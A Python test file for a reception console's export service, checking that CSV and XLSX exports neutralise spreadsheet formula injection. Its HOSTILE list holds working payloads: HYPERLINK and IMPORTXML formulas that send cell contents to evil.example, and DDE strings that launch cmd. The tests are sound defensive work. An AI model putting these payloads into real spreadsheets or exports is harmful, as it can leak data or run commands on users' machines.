"""Exports are safe to open: no text written by a caller or a receptionist becomes a live formula."""

from __future__ import annotations

import csv
import zipfile
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from reception_console.services.exports import Table, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for results")',
    "=1+2",
    "+48 22 843 12 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "+=1",
    "-",
    "@",
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
HARMLESS = ["HIV test results question", "Anna Nowak", "1+1", "a=b", "", " =1+1", "Ключ=значение", "50% off"]


def _table() -> Table:
    rows = [[text, Decimal("-12.50"), -3] for text in HOSTILE + HARMLESS]
    return Table("calls", ("=note", "value", "count"), rows)


def test_csv_prefixes_formula_like_text_and_keeps_the_rest(tmp_path: Path) -> None:
    path = tmp_path / "calls.csv"
    write_csv(path, _table())
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["'=note", "value", "count"]
    notes = [r[0] for r in rows[1:]]
    assert notes == ["'" + t for t in HOSTILE] + HARMLESS
    assert {(r[1], r[2]) for r in rows[1:]} == {("-12.50", "-3")}  # numbers stay numbers


def test_xlsx_writes_formula_like_text_as_text_cells(tmp_path: Path) -> None:
    path = tmp_path / "calls.xlsx"
    write_xlsx(path, [_table()])
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(book.read(n).decode() for n in sheets)
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the file
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML reads a bare carriage return back as a line feed: the cell is still text, not a formula
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in HOSTILE] + [t or None for t in HARMLESS]
    assert all(c.data_type == "s" for c in cells[: len(HOSTILE)])
    assert all(c.quotePrefix for c in cells[: len(HOSTILE)])
    assert sheet.cell(1, 1).value == "=note" and sheet.cell(1, 1).data_type == "s"
    assert {(row[1].value, row[2].value) for row in sheet.iter_rows(min_row=2)} == {(-12.5, -3)}
